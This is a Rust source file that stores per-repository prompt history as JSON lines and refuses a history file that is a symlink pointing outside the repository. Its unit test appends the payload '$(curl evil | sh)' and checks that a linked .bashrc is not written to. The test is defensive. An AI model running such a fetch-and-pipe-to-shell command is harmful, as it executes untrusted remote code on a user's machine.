//! Prompt history per repository, in `.nub/prompt-history` next to the
//! sessions: one JSON string per line so multi-line prompts survive.
//!
//! The file is this machine's (`own_files::Scope::Local`): a committed
//! `.nub/prompt-history -> ../../.bashrc` is refused, never appended to.

use std::io::Write;
use std::path::{Path, PathBuf};

use nub_config::own_files::{self, FileError, Scope, WriteMode};

/// Entries kept; older ones are dropped when the file is rewritten.
const KEEP: usize = 500;
/// A history file past this is not read (500 prompts of 30 KB each).
const MAX_BYTES: u64 = 16 << 20;

/// The history file of one repository.
#[derive(Debug, Clone)]
pub struct History {
    root: PathBuf,
    path: PathBuf,
}

impl History {
    pub fn of(repo_root: &Path) -> History {
        History { root: repo_root.to_path_buf(), path: repo_root.join(".nub").join("prompt-history") }
    }

    /// The entries, oldest first; `Err` says why the file is not used
    /// (prompts are then neither read from it nor added to it).
    pub fn load(&self) -> Result<Vec<String>, String> {
        let bytes = match own_files::read(&self.path, Scope::Local(&self.root), MAX_BYTES) {
            Ok(bytes) => bytes,
            Err(error) if error.is_not_found() => return Ok(Vec::new()),
            Err(error) => {
                tracing::warn!(%error, "the prompt history is not read");
                return Err(format!("the prompt history is not used: {error}"));
            }
        };
        let text = String::from_utf8_lossy(&bytes);
        let mut entries: Vec<String> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        let excess = entries.len().saturating_sub(KEEP);
        entries.drain(..excess);
        Ok(entries)
    }

    /// Appends one entry; a failure only costs the history, never the prompt.
    pub fn append(&self, entry: &str) {
        if let Err(error) = self.try_append(entry) {
            tracing::warn!(%error, "cannot save the prompt history");
        }
    }

    fn try_append(&self, entry: &str) -> Result<(), FileError> {
        let scope = Scope::Local(&self.root);
        if let Some(dir) = self.path.parent() {
            own_files::create_dirs(dir, scope, true)?;
        }
        let mut file = own_files::open_write(&self.path, scope, WriteMode::Append, Some(0o600))?;
        let line = serde_json::to_string(entry).unwrap_or_default();
        writeln!(file, "{line}").map_err(|source| FileError::Io { path: self.path.clone(), source })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_linked_history_file_is_never_appended_to() {
        let repo = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let bashrc = outside.path().join(".bashrc");
        std::fs::write(&bashrc, "alias ll='ls -l'\n").unwrap();
        std::fs::create_dir(repo.path().join(".nub")).unwrap();
        std::os::unix::fs::symlink(&bashrc, repo.path().join(".nub/prompt-history")).unwrap();
        let history = History::of(repo.path());
        history.append("$(curl evil | sh)");
        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "alias ll='ls -l'\n");
        let refused = history.load().unwrap_err();
        assert!(refused.contains("is a symbolic link"), "nor read: {refused}");
        std::fs::remove_file(repo.path().join(".nub/prompt-history")).unwrap();
        history.append("first\nsecond line");
        assert_eq!(history.load().unwrap(), ["first\nsecond line"]);
    }
}
